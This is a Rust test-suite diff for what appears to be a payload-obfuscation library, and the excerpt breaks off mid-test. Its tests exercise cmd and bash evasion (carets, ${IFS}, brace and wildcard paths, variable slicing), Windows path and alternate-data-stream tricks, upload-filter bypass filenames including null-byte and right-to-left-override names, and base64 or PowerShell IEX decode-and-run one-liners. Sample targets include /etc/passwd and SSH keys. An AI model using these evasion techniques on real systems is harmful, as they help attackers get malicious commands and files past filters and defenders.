+    fn test_env_var_obfuscate_empty() {
+        assert_eq!(env_var_obfuscate(""), "");
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_path() {
+        let result = env_var_obfuscate("$PATH");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_user() {
+        let result = env_var_obfuscate("$USER");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_shell() {
+        let result = env_var_obfuscate("$SHELL");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_pwd() {
+        let result = env_var_obfuscate("$PWD");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_custom() {
+        let result = env_var_obfuscate("$MY_VAR");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_braces() {
+        let result = env_var_obfuscate("${HOME}");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_multiple() {
+        let result = env_var_obfuscate("$HOME:$PATH");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_preserves_dollar() {
+        let result = env_var_obfuscate("$VAR");
+        assert!(result.contains('$') || !result.is_empty());
+    }
+
+    #[test]
+    fn test_env_var_obfuscate_no_dollar() {
+        let result = env_var_obfuscate("HOME");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate() {
+        let path = "/etc/passwd";
+        let result = file_path_obfuscate(path);
+        assert!(result.len() > 0);
+        // Path should be obfuscated but still contain some original elements (case-insensitive)
+        let lower = result.to_lowercase();
+        assert!(
+            lower.contains("etc")
+                || lower.contains("passwd")
+                || result.contains("/")
+                || result.contains("\\")
+        );
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_empty() {
+        assert_eq!(file_path_obfuscate(""), "");
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_simple() {
+        let result = file_path_obfuscate("/tmp/test.txt");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_windows() {
+        let result = file_path_obfuscate("C:\\Windows\\System32");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_relative() {
+        let result = file_path_obfuscate("./config.json");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_parent() {
+        let result = file_path_obfuscate("../../../etc/shadow");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_home() {
+        let result = file_path_obfuscate("/home/user/.ssh/id_rsa");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_long_path() {
+        let result = file_path_obfuscate("/var/www/html/wp-content/uploads/shell.php");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_special_chars() {
+        let result = file_path_obfuscate("/tmp/test file.txt");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_extension() {
+        let result = file_path_obfuscate("script.sh");
+        assert!(!result.is_empty());
+    }
+
+    #[test]
+    fn test_file_path_obfuscate_preserves_separators() {
+        let result = file_path_obfuscate("/usr/bin/bash");
+        assert!(result.contains('/') || result.contains('\\'));
+    }
+
+    /// Undoes [`cmd_obfuscate`] for commands without quotes.
+    fn cmd_plain(result: &str) -> String {
+        result
+            .trim_start_matches("%COMSPEC% /c ")
+            .replace('^', "")
+            .replace("\"\"", "")
+    }
+
+    #[test]
+    fn test_cmd_obfuscate_round_trips() {
+        for _ in 0..50 {
+            let result = cmd_obfuscate("whoami /all");
+            assert_eq!(cmd_plain(&result), "whoami /all");
+        }
+    }
+
+    #[test]
+    fn test_cmd_obfuscate_empty() {
+        assert_eq!(cmd_obfuscate(""), "");
+    }
+
+    #[test]
+    fn test_cmd_obfuscate_uses_carets_and_comspec() {
+        let results: Vec<String> = (0..50).map(|_| cmd_obfuscate("powershell")).collect();
+        assert!(results.iter().any(|r| r.contains('^')));
+        assert!(results.iter().any(|r| r.starts_with("%COMSPEC% /c ")));
+        assert!(results.iter().any(|r| r.contains("\"\"")));
+    }
+
+    #[test]
+    fn test_cmd_obfuscate_keeps_operators() {
+        for _ in 0..20 {
+            let result = cmd_obfuscate("dir & echo a|more > out");
+            assert!(!result.contains("^&") && !result.contains("^|") && !result.contains("^>"));
+            assert_eq!(cmd_plain(&result), "dir & echo a|more > out");
+        }
+    }
+
+    #[test]
+    fn test_cmd_obfuscate_skips_quoted_text() {
+        for _ in 0..20 {
+            let result = cmd_obfuscate("echo \"secret value\"");
+            assert!(result.contains("\"secret value\""));
+        }
+    }
+
+    #[test]
+    fn test_cmd_obfuscate_percent_literals() {
+        let results: Vec<String> = (0..50).map(|_| cmd_obfuscate("echo 100% done%")).collect();
+        for result in &results {
+            assert_eq!(cmd_plain(result), "echo 100% done%");
+        }
+        assert!(
+            results.iter().any(|r| !r.contains(" done%")),
+            "{:?}",
+            results
+        );
+    }
+
+    #[test]
+    fn test_cmd_variable_len() {
+        assert_eq!(cmd_variable_len("%PATH% x"), Some(6));
+        assert_eq!(cmd_variable_len("!USERNAME!"), Some(10));
+        assert_eq!(cmd_variable_len("%ProgramFiles(x86)%"), Some(19));
+        assert_eq!(cmd_variable_len("%COMSPEC:~-7,1%"), Some(15));
+        assert_eq!(cmd_variable_len("% done%"), None);
+        assert_eq!(cmd_variable_len("%1 %2"), None);
+        assert_eq!(cmd_variable_len("%PATH"), None);
+        assert_eq!(cmd_variable_len("PATH%"), None);
+    }
+
+    #[test]
+    fn test_cmd_obfuscate_keeps_variables() {
+        for _ in 0..20 {
+            let result = cmd_obfuscate("echo %PATH% !USERNAME! & set PATH=%SystemRoot%");
+            assert!(result.contains("%PATH% !USERNAME!"));
+            assert!(result.contains("=%SystemRoot%"));
+            assert_eq!(
+                cmd_plain(&result),
+                "echo %PATH% !USERNAME! & set PATH=%SystemRoot%"
+            );
+        }
+    }
+
+    /// Expands the `%VAR:~n,1%` references produced by [`cmd_env_substring`].
+    fn expand_env_substrings(result: &str) -> String {
+        let mut out = String::new();
+        let mut rest = result;
+        while let Some(start) = rest.find('%') {
+            out.push_str(&rest[..start]);
+            let end = start + 1 + rest[start + 1..].find('%').unwrap();
+            let (name, slice) = rest[start + 1..end].split_once(":~").unwrap();
+            let offset: i64 = slice.trim_end_matches(",1").parse().unwrap();
+            let value = WINDOWS_ENV_DEFAULTS
+                .iter()
+                .find(|(n, _)| *n == name)
+                .unwrap()
+                .1;
+            let index = if offset < 0 {
+                value.len() as i64 + offset
+            } else {
+                offset
+            };
+            out.push(value.as_bytes()[index as usize] as char);
+            rest = &rest[end + 1..];
+        }
+        out.push_str(rest);
+        out
+    }
+
+    #[test]
+    fn test_cmd_env_substring_expands_back() {
+        for _ in 0..50 {
+            let result = cmd_env_substring("powershell -nop");
+            assert_eq!(
+                expand_env_substrings(&result).to_lowercase(),
+                "powershell -nop"
+            );
+        }
+    }
+
+    #[test]
+    fn test_cmd_env_substring_keeps_argument_case() {
+        for _ in 0..50 {
+            let result = cmd_env_substring("ECHO /A Hello World");
+            let expanded = expand_env_substrings(&result);
+            assert!(expanded.eq_ignore_ascii_case("echo /a Hello World"));
+            assert!(expanded.ends_with(" Hello World"), "{}", expanded);
+        }
+    }
+
+    #[test]
+    fn test_cmd_env_substring_hides_command_name() {
+        let result = cmd_env_substring("powershell");
+        assert!(!result.to_lowercase().contains("powershell"));
+        assert!(result.contains(":~"));
+    }
+
+    #[test]
+    fn test_cmd_env_substring_uses_both_offsets() {
+        let results: Vec<String> = (0..50).map(|_| cmd_env_substring("cmd")).collect();
+        assert!(results.iter().any(|r| r.contains(":~-")));
+        assert!(results
+            .iter()
+            .any(|r| r.contains(":~") && !r.contains(":~-")));
+    }
+
+    #[test]
+    fn test_cmd_env_substring_keeps_variable_references() {
+        for _ in 0..20 {
+            let result = cmd_env_substring("echo %USERNAME% !TEMP!");
+            assert!(result.ends_with("%USERNAME% !TEMP!"), "{}", result);
+            assert!(!result.starts_with("echo"), "{}", result);
+        }
+    }
+
+    #[test]
+    fn test_cmd_env_substring_percent_literals() {
+        for _ in 0..20 {
+            let result = cmd_env_substring("echo 100% done%");
+            assert!(result.contains("100% "), "{}", result);
+            assert!(!result.contains("done"), "{}", result);
+            assert!(result.ends_with(",1%%"), "{}", result);
+        }
+    }
+
+    #[test]
+    fn test_cmd_env_substring_keeps_unmapped_characters() {
+        assert_eq!(cmd_env_substring("k z"), "k z");
+        assert_eq!(cmd_env_substring(""), "");
+    }
+
+    #[test]
+    fn test_short_name() {
+        assert_eq!(short_name("Program Files").as_deref(), Some("PROGRA~1"));
+        assert_eq!(
+            short_name("Documents.docx").as_deref(),
+            Some("DOCUME~1.DOC")
+        );
+        assert_eq!(short_name("System32"), None);
+        assert_eq!(short_name("hosts"), None);
+        assert_eq!(short_name(".gitconfig"), None);
+    }
+
+    #[test]
+    fn test_windows_path_obfuscate_device_and_unc_forms() {
+        let variants = windows_path_obfuscate("c:/Windows/win.ini");
+        assert!(variants.contains(&"\\\\?\\C:\\Windows\\win.ini".to_string()));
+        assert!(variants.contains(&"\\\\.\\C:\\Windows\\win.ini".to_string()));
+        assert!(variants.contains(&"\\\\127.0.0.1\\C$\\Windows\\win.ini".to_string()));
+        assert!(variants.contains(&"\\\\?\\UNC\\localhost\\C$\\Windows\\win.ini".to_string()));
+    }
+
+    #[test]
+    fn test_windows_path_obfuscate_separators() {
+        let variants = windows_path_obfuscate("C:\\Windows\\System32\\drivers\\etc\\hosts");
+        assert!(variants.contains(&"C:/Windows/System32/drivers/etc/hosts".to_string()));
+        assert!(variants.contains(&"C:/Windows\\System32/drivers\\etc/hosts".to_string()));
+        assert!(
+            variants.contains(&"C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts".to_string())
+        );
+        assert!(variants.contains(&"C:\\Windows\\System32\\drivers\\etc\\.\\hosts".to_string()));
+    }
+
+    #[test]
+    fn test_windows_path_obfuscate_short_names_and_trailing() {
+        let variants = windows_path_obfuscate("C:\\Program Files\\Internet Explorer\\iexplore.exe");
+        assert!(variants.contains(&"C:\\PROGRA~1\\INTERN~1\\iexplore.exe".to_string()));
+        assert!(
+            variants.contains(&"C:\\Program Files\\Internet Explorer\\iexplore.exe.".to_string())
+        );
+        assert!(
+            variants.contains(&"C:\\Program Files\\Internet Explorer\\iexplore.exe ".to_string())
+        );
+    }
+
+    #[test]
+    fn test_windows_path_obfuscate_relative_and_empty() {
+        let variants = windows_path_obfuscate("uploads\\shell.aspx");
+        assert!(variants.iter().all(|v| !v.starts_with("\\\\")));
+        assert!(!variants.contains(&"uploads\\shell.aspx".to_string()));
+        assert!(windows_path_obfuscate("").is_empty());
     }
 
     #[test]
-    fn test_bash_obfuscate_pipeline() {
-        let result = bash_obfuscate("cat file | grep test");
-        assert!(!result.is_empty());
+    fn test_ads_path() {
+        assert_eq!(ads_path("file.txt", "hidden.ps1"), "file.txt:hidden.ps1");
+        assert_eq!(
+            ads_path("C:\\temp\\a.log", "x.exe:$DATA"),
+            "C:\\temp\\a.log:x.exe:$DATA"
+        );
     }
 
     #[test]
-    fn test_bash_obfuscate_redirection() {
-        let result = bash_obfuscate("echo test > file.txt");
-        assert!(!result.is_empty());
+    fn test_ads_variants_default_stream() {
+        let variants = ads_variants("index.aspx");
+        assert!(variants.contains(&"index.aspx::$DATA".to_string()));
+        assert!(variants.contains(&"index.aspx::$data".to_string()));
     }
 
     #[test]
-    fn test_bash_obfuscate_chmod() {
-        let result = bash_obfuscate("chmod +x script.sh");
-        assert!(!result.is_empty());
+    fn test_ads_variants_named_and_directory_streams() {
+        let variants = ads_variants("uploads");
+        assert!(variants.contains(&"uploads:hidden:$DATA".to_string()));
+        assert!(variants.contains(&"uploads:Zone.Identifier:$DATA".to_string()));
+        assert!(variants.contains(&"uploads::$INDEX_ALLOCATION".to_string()));
+        assert!(variants.contains(&"uploads:$I30:$INDEX_ALLOCATION".to_string()));
     }
 
     #[test]
-    fn test_bash_obfuscate_preserves_content() {
-        let cmd = "rm -rf /tmp/test";
-        let result = bash_obfuscate(cmd);
-        assert!(!result.is_empty());
+    fn test_ads_variants_keep_path_prefix() {
+        let variants = ads_variants("a.php");
+        assert!(variants.iter().all(|v| v.starts_with("a.php:")));
+        let unique: HashSet<&String> = variants.iter().collect();
+        assert_eq!(unique.len(), variants.len());
     }
 
     #[test]
-    fn test_env_var_obfuscate() {
-        let var = "$HOME";
-        let result = env_var_obfuscate(var);
-        assert!(result.to_lowercase().contains("home"));
+    fn test_windows_reserved_names_every_device() {
+        let names = windows_reserved_names("report.pdf");
+        for device in WINDOWS_DEVICE_NAMES {
+            assert!(names.contains(&device.to_string()));
+            assert!(names.contains(&format!("{}.pdf", device)));
+        }
     }
 
     #[test]
-    fn test_env_var_obfuscate_empty() {
-        assert_eq!(env_var_obfuscate(""), "");
+    fn test_windows_reserved_names_trailing_forms() {
+        let names = windows_reserved_names("report.pdf");
+        assert!(names.contains(&"AUX.".to_string()));
+        assert!(names.contains(&"AUX.pdf.".to_string()));
+        assert!(names.contains(&"AUX .pdf".to_string()));
+        assert!(names.contains(&"AUX.pdf.pdf".to_string()));
+        assert!(names.contains(&"aux.pdf".to_string()));
     }
 
     #[test]
-    fn test_env_var_obfuscate_path() {
-        let result = env_var_obfuscate("$PATH");
-        assert!(!result.is_empty());
+    fn test_windows_reserved_names_bare_extension() {
+        assert_eq!(
+            windows_reserved_names("txt"),
+            windows_reserved_names("notes.txt")
+        );
     }
 
     #[test]
-    fn test_env_var_obfuscate_user() {
-        let result = env_var_obfuscate("$USER");
-        assert!(!result.is_empty());
+    fn test_windows_reserved_names_without_extension() {
+        let names = windows_reserved_names("");
+        assert_eq!(names.len(), WINDOWS_DEVICE_NAMES.len() * 2);
+        assert!(names.contains(&"CONOUT$.".to_string()));
     }
 
     #[test]
-    fn test_env_var_obfuscate_shell() {
-        let result = env_var_obfuscate("$SHELL");
-        assert!(!result.is_empty());
+    fn test_double_extension_filenames_both_orders() {
+        let names = double_extension_filenames("report.pdf", "exe");
+        assert_eq!(names[0], "report.pdf.exe");
+        assert_eq!(names[1], "report.exe.pdf");
     }
 
     #[test]
-    fn test_env_var_obfuscate_pwd() {
-        let result = env_var_obfuscate("$PWD");
-        assert!(!result.is_empty());
+    fn test_double_extension_filenames_case_and_aliases() {
+        let names = double_extension_filenames("shell.jpg", ".php");
+        assert!(names.contains(&"shell.pHp".to_string()));
+        assert!(names.contains(&"shell.PHP".to_string()));
+        assert!(names.contains(&"shell.phtml".to_string()));
+        assert!(names.contains(&"shell.pHtMl".to_string()));
+        let names = double_extension_filenames("a.png", "asp");
+        assert!(names.contains(&"a.cer".to_string()));
     }
 
     #[test]
-    fn test_env_var_obfuscate_custom() {
-        let result = env_var_obfuscate("$MY_VAR");
-        assert!(!result.is_empty());
+    fn test_double_extension_filenames_padding() {
+        let names = double_extension_filenames("shell.jpg", "php");
+        for expected in [
+            "shell.php%00.jpg",
+            "shell.php;.jpg",
+            "shell.php ",
+            "shell.php.",
+            "shell.php%20",
+            "shell.php::$DATA",
+        ] {
+            assert!(names.contains(&expected.to_string()), "{}", expected);
+        }
     }
 
     #[test]
-    fn test_env_var_obfuscate_braces() {
-        let result = env_var_obfuscate("${HOME}");
-        assert!(!result.is_empty());
+    fn test_double_extension_filenames_rtlo() {
+        let names = double_extension_filenames("invoice.pdf", "exe");
+        assert!(names.contains(&"invoice\u{202E}fdp.exe".to_string()));
     }
 
     #[test]
-    fn test_env_var_obfuscate_multiple() {
-        let result = env_var_obfuscate("$HOME:$PATH");
-        assert!(!result.is_empty());
+    fn test_double_extension_filenames_without_safe_extension() {
+        let names = double_extension_filenames("shell", "jsp");
+        assert!(names.contains(&"shell.jSp".to_string()));
+        assert!(names.contains(&"shell.jspx".to_string()));
+        assert!(names.iter().all(|n| !n.contains("%00")));
+        let unique: HashSet<&String> = names.iter().collect();
+        assert_eq!(unique.len(), names.len());
     }
 
     #[test]
-    fn test_env_var_obfuscate_preserves_dollar() {
-        let result = env_var_obfuscate("$VAR");
-        assert!(result.contains('$') || !result.is_empty());
+    fn test_bash_ifs_obfuscate_basic() {
+        assert_eq!(
+            bash_ifs_obfuscate("cat /etc/passwd"),
+            "cat${IFS}/etc/passwd"
+        );
+        assert_eq!(bash_ifs_obfuscate(""), "");
     }
 
     #[test]
-    fn test_env_var_obfuscate_no_dollar() {
-        let result = env_var_obfuscate("HOME");
-        assert!(!result.is_empty());
+    fn test_bash_ifs_obfuscate_collapses_runs() {
+        assert_eq!(
+            bash_ifs_obfuscate("  ls \t -la  /tmp "),
+            "ls${IFS}-la${IFS}/tmp"
+        );
     }
 
     #[test]
-    fn test_file_path_obfuscate() {
-        let path = "/etc/passwd";
-        let result = file_path_obfuscate(path);
-        assert!(result.len() > 0);
-        // Path should be obfuscated but still contain some original elements (case-insensitive)
-        let lower = result.to_lowercase();
-        assert!(
-            lower.contains("etc")
-                || lower.contains("passwd")
-                || result.contains("/")
-                || result.contains("\\")
+    fn test_bash_ifs_obfuscate_keeps_blank_before_io_number() {
+        assert_eq!(bash_ifs_obfuscate("ls / 2>&1"), "ls${IFS}/ 2>&1");
+        assert_eq!(bash_ifs_obfuscate("id 2 >x 10<y"), "id${IFS}2${IFS}>x 10<y");
+    }
+
+    #[test]
+    fn test_bash_ifs_obfuscate_keeps_quoted_spaces() {
+        assert_eq!(
+            bash_ifs_obfuscate("echo \"a b\" 'c d' e\\ f"),
+            "echo${IFS}\"a b\"${IFS}'c d'${IFS}e\\ f"
+        );
+        assert_eq!(
+            bash_ifs_obfuscate("echo $(id -u) ${HOME}"),
+            "echo${IFS}$(id -u)${IFS}${HOME}"
         );
     }
 
     #[test]
-    fn test_file_path_obfuscate_empty() {
-        assert_eq!(file_path_obfuscate(""), "");
+    fn test_bash_brace_expansion_basic() {
+        assert_eq!(bash_brace_expansion("cat /etc/passwd"), "{cat,/etc/passwd}");
+        assert_eq!(bash_brace_expansion("ls"), "ls");
+        assert_eq!(bash_brace_expansion(""), "");
     }
 
     #[test]
-    fn test_file_path_obfuscate_simple() {
-        let result = file_path_obfuscate("/tmp/test.txt");
-        assert!(!result.is_empty());
+    fn test_bash_brace_expansion_pipelines_and_lists() {
+        assert_eq!(
+            bash_brace_expansion("id; cat /etc/passwd | grep root && echo done"),
+            "id;{cat,/etc/passwd}|{grep,root}&&{echo,done}"
+        );
     }
 
     #[test]
-    fn test_file_path_obfuscate_windows() {
-        let result = file_path_obfuscate("C:\\Windows\\System32");
-        assert!(!result.is_empty());
+    fn test_bash_brace_expansion_redirections() {
+        assert_eq!(
+            bash_brace_expansion("ls -la /root 2>&1 > /tmp/out"),
+            "{ls,-la,/root} 2>&1>/tmp/out"
+        );
+        assert_eq!(bash_brace_expansion("ls 2>/dev/null"), "ls 2>/dev/null");
     }
 
     #[test]
-    fn test_file_path_obfuscate_relative() {
-        let result = file_path_obfuscate("./config.json");
-        assert!(!result.is_empty());
+    fn test_bash_brace_expansion_escapes_and_quotes() {
+        assert_eq!(
+            bash_brace_expansion("echo a,b 'c,d e'"),
+            "{echo,a\\,b,'c,d e'}"
+        );
+        assert_eq!(
+            bash_brace_expansion("echo ${IFS} $(id -u)"),
+            "{echo,${IFS},$(id -u)}"
+        );
     }
 
     #[test]
-    fn test_file_path_obfuscate_parent() {
-        let result = file_path_obfuscate("../../../etc/shadow");
-        assert!(!result.is_empty());
+    fn test_bash_wildcard_path_basic() {
+        assert_eq!(bash_wildcard_path("/bin/cat"), "/???/c?t");
+        assert_eq!(bash_wildcard_path("/usr/bin/python3"), "/???/???/p?????3");
+        assert_eq!(bash_wildcard_path("/bin/ls"), "/???/l?");
     }
 
     #[test]
-    fn test_file_path_obfuscate_home() {
-        let result = file_path_obfuscate("/home/user/.ssh/id_rsa");
-        assert!(!result.is_empty());
+    fn test_bash_wildcard_path_relative_and_dotfiles() {
+        assert_eq!(bash_wildcard_path("nc"), "n?");
+        assert_eq!(bash_wildcard_path("/root/.bashrc"), "/????/.?????c");
+        assert_eq!(bash_wildcard_path(""), "");
     }
 
     #[test]
-    fn test_file_path_obfuscate_long_path() {
-        let result = file_path_obfuscate("/var/www/html/wp-content/uploads/shell.php");
-        assert!(!result.is_empty());
+    fn test_bash_glob_resolve_wildcards() {
+        let layout = ["/bin/cat", "/bin/cut", "/bin/chmod", "/usr/bin/cat"];
+        assert_eq!(
+            bash_glob_resolve("/???/c?t", &layout),
+            vec!["/bin/cat", "/bin/cut"]
+        );
+        assert_eq!(bash_glob_resolve("/bin/c*", &layout).len(), 3);
+        assert_eq!(bash_glob_resolve("/*/cat", &layout), vec!["/bin/cat"]);
+        assert!(bash_glob_resolve("/???/nc", &layout).is_empty());
     }
 
     #[test]
-    fn test_file_path_obfuscate_special_chars() {
-        let result = file_path_obfuscate("/tmp/test file.txt");
-        assert!(!result.is_empty());
+    fn test_bash_glob_resolve_brackets_and_escapes() {
+        let layout = ["/bin/cat", "/bin/cut", "/bin/c?t"];
+        assert_eq!(bash_glob_resolve("/bin/c[a]t", &layout), vec!["/bin/cat"]);
+        assert_eq!(bash_glob_resolve("/bin/c[!a]t", &layout).len(), 2);
+        assert_eq!(bash_glob_resolve("/bin/c[a-z]t", &layout).len(), 2);
+        assert_eq!(bash_glob_resolve("/bin/c\\?t", &layout), vec!["/bin/c?t"]);
     }
 
     #[test]
-    fn test_file_path_obfuscate_extension() {
-        let result = file_path_obfuscate("script.sh");
-        assert!(!result.is_empty());
+    fn test_bash_glob_resolve_hidden_files() {
+        let layout = ["/root/.bashrc", "/root/notes"];
+        assert_eq!(bash_glob_resolve("/root/*", &layout), vec!["/root/notes"]);
+        assert_eq!(
+            bash_glob_resolve("/root/.*", &layout),
+            vec!["/root/.bashrc"]
+        );
     }
 
     #[test]
-    fn test_file_path_obfuscate_preserves_separators() {
-        let result = file_path_obfuscate("/usr/bin/bash");
-        assert!(result.contains('/') || result.contains('\\'));
+    fn test_bash_wildcard_path_unique() {
+        let layout = ["/bin/cat", "/bin/cut", "/bin/chmod", "/sbin/cat"];
+        assert_eq!(
+            bash_wildcard_path_unique("/bin/chmod", &layout),
+            Some("/???/c???d".to_string())
+        );
+        // The directory length alone separates /sbin/cat from /bin/cat
+        assert_eq!(
+            bash_wildcard_path_unique("/sbin/cat", &layout),
+            Some("/????/c?t".to_string())
+        );
+        assert_eq!(
+            bash_wildcard_path_unique("/bin/cat", &layout),
+            Some("/???/cat".to_string())
+        );
+        assert_eq!(bash_wildcard_path_unique("/bin/nc", &layout), None);
+    }
+
+    #[test]
+    fn test_bash_wildcard_path_unique_reveals_directories() {
+        let layout = ["/bin/cat", "/etc/cat"];
+        assert_eq!(
+            bash_wildcard_path_unique("/etc/cat", &layout),
+            Some("/e??/cat".to_string())
+        );
+    }
+
+    /// Evaluates the `${VAR:n:1}` slices `bash_var_slice` emits against the defaults.
+    fn expand_slices(command: &str) -> String {
+        let mut result = command.to_string();
+        for &(name, value, from_end) in BASH_VAR_DEFAULTS {
+            let len = value.chars().count();
+            for (i, c) in value.chars().enumerate() {
+                let slice = if from_end {
+                    format!("${{{}: -{}:1}}", name, len - i)
+                } else {
+                    format!("${{{}:{}:1}}", name, i)
+                };
+                result = result.replace(&slice, &c.to_string());
+            }
+        }
+        result
+    }
+
+    #[test]
+    fn test_bash_var_slice_round_trip() {
+        for cmd in ["cat /etc/passwd", "ls -la /home", "bash -i", "uname -a"] {
+            let result = bash_var_slice(cmd);
+            assert_eq!(expand_slices(&result), cmd);
+        }
+    }
+
+    #[test]
+    fn test_bash_var_slice_keeps_operators() {
+        for cmd in ["echo hi > /tmp/x", "id; uname -a | cat", "(ls) && ls<x"] {
+            for _ in 0..20 {
+                let result = bash_var_slice(cmd);
+                assert_eq!(expand_slices(&result), cmd);
+                let operators =
+                    |s: &str| -> String { s.chars().filter(|c| "<>|&;()".contains(*c)).collect() };
+                assert_eq!(operators(&result), operators(cmd), "{}", result);
+            }
+        }
+        assert!(BASH_VAR_DEFAULTS
+            .iter()
+            .all(|&(name, _, _)| !name.starts_with("PS")));
+    }
+
+    #[test]
+    fn test_bash_var_slice_replaces_known_characters() {
+        let result = bash_var_slice("/bin/bash");
+        assert!(result.contains("${"));
+        assert!(!result.contains("bash"));
+    }
+
+    #[test]
+    fn test_bash_var_slice_keeps_parameter_references() {
+        for _ in 0..20 {
+            let result = bash_var_slice("echo $home $1 $$");
+            assert!(
+                result.ends_with("$home${IFS:0:1}$1${IFS:0:1}$$"),
+                "{}",
+                result
+            );
+            assert_eq!(expand_slices(&result), "echo $home $1 $$");
+        }
+    }
+
+    #[test]
+    fn test_bash_var_slice_keeps_reserved_words() {
+        for _ in 0..20 {
+            let result = bash_var_slice("for i in a b; do echo $i; done");
+            assert!(result.starts_with("for i in "), "{}", result);
+            assert!(result.contains("; do "), "{}", result);
+            assert!(result.ends_with("$i; done"), "{}", result);
+            assert_eq!(expand_slices(&result), "for i in a b; do echo $i; done");
+
+            let result = bash_var_slice("if true; then ls; fi");
+            assert!(result.starts_with("if "), "{}", result);
+            assert!(result.contains("; then "), "{}", result);
+            assert!(result.ends_with("; fi"), "{}", result);
+
+            let result = bash_var_slice("[[ -z x ]] || id");
+            assert!(result.starts_with("[[ -z x ]] ||"), "{}", result);
+        }
+    }
+
+    #[test]
+    fn test_bash_var_slice_keeps_blank_before_io_number() {
+        for _ in 0..20 {
+            let result = bash_var_slice("ls / 2>&1");
+            assert!(result.ends_with(" 2>&1"), "{}", result);
+            assert_eq!(expand_slices(&result), "ls / 2>&1");
+        }
+    }
+
+    #[test]
+    fn test_bash_var_slice_keeps_assignment_names() {
+        for _ in 0..20 {
+            let result = bash_var_slice("bash=1 env");
+            assert!(result.starts_with("bash=1 "), "{}", result);
+            assert_eq!(expand_slices(&result), "bash=1 env");
+        }
+    }
+
+    #[test]
+    fn test_bash_var_slice_keeps_quoted_and_unknown() {
+        assert_eq!(bash_var_slice("'/x y'"), "'/x y'");
+        assert_eq!(bash_var_slice("cd"), "cd");
+        assert_eq!(bash_var_slice(""), "");
+    }
+
+    #[test]
+    fn test_bash_rev_wrap() {
+        assert_eq!(
+            bash_rev_wrap("cat /etc/passwd"),
+            "echo 'dwssap/cte/ tac' | rev | bash"
+        );
+        assert_eq!(
+            bash_rev_wrap("echo 'hi'"),
+            "echo ''\\''ih'\\'' ohce' | rev | bash"
+        );
+    }
+
+    #[test]
+    fn test_bash_rev_wrap_keeps_line_order() {
+        assert_eq!(
+            bash_rev_wrap("cd /tmp\nls -a"),
+            "echo 'pmt/ dc\na- sl' | rev | bash"
+        );
+    }
+
+    #[test]
+    fn test_bash_base64_wrap() {
+        assert_eq!(
+            bash_base64_wrap("cat /etc/passwd"),
+            "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash"
+        );
+    }
+
+    #[test]
+    fn test_bash_wrappers_compose() {
+        let inner = bash_rev_wrap("id");
+        let outer = bash_base64_wrap(&inner);
+        assert!(outer.starts_with("echo "));
+        assert_eq!(
+            outer,
+            format!("echo {} | base64 -d | bash", base64_encode(&inner))
+        );
+    }
+
+    #[test]
+    fn test_shell_one_liner_posix_shells() {
+        assert_eq!(
+            shell_one_liner("cat /etc/passwd", Shell::Bash, ShellEncoding::Base64),
+            "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash"
+        );
+        assert_eq!(
+            shell_one_liner("id", Shell::Sh, ShellEncoding::Hex),
+            "echo 6964 | xxd -r -p | sh"
+        );
+    }
+
+    #[test]
+    fn test_shell_one_liner_python() {
+        assert_eq!(
+            shell_one_liner("import os", Shell::Python, ShellEncoding::Base64),
+            "python3 -c 'exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))'"
+        );
+    }
+
+    #[test]
+    fn test_shell_one_liner_powershell() {
+        let b64 = shell_one_liner("whoami", Shell::PowerShell, ShellEncoding::Base64);
+        assert_eq!(
+            b64,
+            "powershell -NoP -C \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\""
+        );
+        let hex = shell_one_liner("whoami", Shell::PowerShell, ShellEncoding::Hex);
+        assert!(hex.contains("'77686f616d69' -split '(..)'"));
+        assert!(hex.starts_with("powershell -NoP -C \"IEX("));
+    }
+
+    #[test]
+    fn test_shell_one_liner_powershell_hex_decodes_utf8() {
+        assert_eq!(
+            shell_one_liner("echo é", Shell::PowerShell, ShellEncoding::Hex),
+            "powershell -NoP -C \"IEX([Text.Encoding]::UTF8.GetString([byte[]]('6563686f20c3a9' -split '(..)' -ne '' | %{[Convert]::ToByte($_,16)})))\""
+        );
+    }
+
+    #[test]
+    fn test_shell_one_liner_hides_quotes() {
+        let payload = "echo 'a' \"b\" | tee /tmp/x; id";
+        for shell in [Shell::Bash, Shell::Sh, Shell::Python, Shell::PowerShell] {
+            for enc in [ShellEncoding::Base64, ShellEncoding::Hex] {
+                let result = shell_one_liner(payload, shell, enc);
+                assert!(!result.contains("tee"), "{} {:?}", shell, enc);
+            }
+        }
+    }
+
+    #[test]
+    fn test_shell_name_display() {
+        assert_eq!(Shell::PowerShell.to_string(), "powershell");
+        assert_eq!(Shell::Bash.name(), "bash");
+    }
+
+    /// Rebuilds the text of every `character id {...}` list in `script`.
+    fn char_id_strings(script: &str) -> Vec<String> {
+        script
+            .split("character id {")
+            .skip(1)
+            .map(|part| {
+                part[..part.find('}').unwrap()]
+                    .split(", ")
+                    .map(|id| char::from_u32(id.parse().unwrap()).unwrap())
+                    .collect()
+            })
+            .collect()
+    }
+
+    #[test]
+    fn test_osascript_obfuscate_forms() {
+        let script = "display dialog \"hello\"";
+        let mut forms = HashSet::new();
+        for _ in 0..60 {
